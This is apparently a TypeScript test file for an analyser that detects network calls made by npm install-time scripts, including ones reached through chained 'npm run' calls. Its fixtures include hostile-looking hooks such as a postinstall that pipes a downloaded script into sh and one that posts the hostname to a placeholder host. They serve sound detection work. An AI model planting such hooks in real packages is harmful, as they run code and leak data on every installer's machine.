import { describe, expect, it } from 'vitest';
import lifecycle, { installScripts } from '../../src/catalogue/lifecycle.ts';
import { analysed, destinationOf } from './subject.ts';

const packageOf = (scripts: Readonly<Record<string, string>>, more: object = {}): string => JSON.stringify({ name: 'a', ...more, scripts }, null, 2);

/** What the scripts of a package send: `line api destination`. */
const sent = (text: string): string[] => analysed(text, '/p/package.json').egress.map((e) => `${e.line} ${e.api} ${destinationOf(e)}`);

describe('scripts that run where a package is installed', () => {
  it.each<[Readonly<Record<string, string>>, ...string[]]>([
    [{ postinstall: 'curl -s https://a.example.com/i | sh' }, '4 scripts.postinstall curl fixed https://a.example.com/i'],
    [{ preinstall: 'echo hello && wget https://a.example.com/x' }, '4 scripts.preinstall wget fixed https://a.example.com/x'],
    [{ prepare: 'curl "https://a.example.com/x?v=$npm_package_version"' }, '4 scripts.prepare curl fixed https://a.example.com/x'],
    [{ install: 'sh -c "curl https://a.example.com/a; curl https://b.example.com/b"' }, '4 scripts.install curl fixed https://a.example.com/a | fixed https://b.example.com/b'],
    // By way of another script, before and behind it, and by how its name begins.
    [{ ping: 'curl https://a.example.com/', postinstall: 'node -v && npm run ping' }, '4 scripts.postinstall curl fixed https://a.example.com/'],
    [{ postinstall: 'yarn ping', ping: 'true', preping: 'curl https://a.example.com/' }, '6 scripts.postinstall curl fixed https://a.example.com/'],
    [{ prepare: "run-s 'set:*'", 'set:a': 'curl https://a.example.com/' }, '5 scripts.prepare curl fixed https://a.example.com/'],
    [{ prepare: 'npm run a', a: 'npm run b', b: 'npm run a && curl https://a.example.com/' }, '6 scripts.prepare curl fixed https://a.example.com/'],
    [{ prepare: 'node --run ping', ping: 'curl https://a.example.com/' }, '5 scripts.prepare curl fixed https://a.example.com/'],
    [{ postinstall: 'cd app && npm install' }, '4 scripts.postinstall npm install configured env:npm_config_registry'],
    [{ postinstall: 'npm install --registry https://a.example.com' }, '4 scripts.postinstall npm install fixed https://a.example.com'],
    // What somebody asks for is no business of whoever installs the package; what sends nothing is none either.
    [{ deploy: 'curl https://a.example.com/' }],
    [{ postinstall: 'node-gyp rebuild', test: 'curl https://a.example.com/' }],
    [{ postinstall: 'patch-package', prepare: 'husky', prepublishOnly: 'npm publish' }],
    [{ postinstall: 'echo "curl https://a.example.com/"' }],
    [{ postinstall: 'echo ping', ping: 'curl https://a.example.com/' }],
  ])('%j', (scripts, ...expected) => { expect(sent(packageOf(scripts))).toEqual(expected); });

  it('are looked for under "scripts" alone', () => {
    expect(sent(packageOf({ test: 'true' }, { postinstall: 'curl https://a.example.com/', config: { postinstall: 'curl https://a.example.com/' } }))).toEqual([]);
    expect(sent(packageOf({ postinstall: 'curl https://b.example.com/' }, { files: ['scripts'], config: { postinstall: 'x' }, homepage: 'https://a.example.com/' }))).toEqual(['11 scripts.postinstall curl fixed https://b.example.com/']);
  });

  it('stand where they are written', () => {
    const [e] = analysed('{ "scripts": { "postinstall" : "curl \\"https://a.example.com/\\" -o x" } }', '/p/package.json').egress;
    expect([e?.line, e?.column, e?.endColumn, e?.package]).toEqual([1, 32, 70, 'package.json:scripts']);
  });

  it('say what they send', () => {
    const [e] = analysed(packageOf({ postinstall: 'curl -d "$(hostname)" https://a.example.com/' }), '/p/package.json').egress;
    expect([e?.data.map(({ category }) => category), e?.telemetry, e?.on]).toEqual([['user.device'], true, 'postinstall']);
  });

  it('are no literals: what else stands in the file is none', () => {
    const { literals } = analysed(packageOf({ postinstall: 'curl https://a.example.com/' }, { bugs: { url: 'https://b.example.com/issues' } }), '/p/package.json');
    expect(literals).toEqual([]);
  });

  it('are read of nothing but a package.json', () => {
    expect(analysed(packageOf({ postinstall: 'curl https://a.example.com/' }), '/p/packages.json').egress).toEqual([]);
  });

  it('have a row each', () => {
    expect(lifecycle.calls[0]?.path.replace(/\(\)$/, '').split('|')).toEqual([...installScripts].sort());
  });

  it.each(['', '[]', 'null', '{"scripts":null}', '{"scripts":{"postinstall":1}}', '{"scripts":["postinstall"]}'])('of a file that holds %j are none', (text) => {
    expect(analysed(text, '/p/package.json').egress).toEqual([]);
  });
});
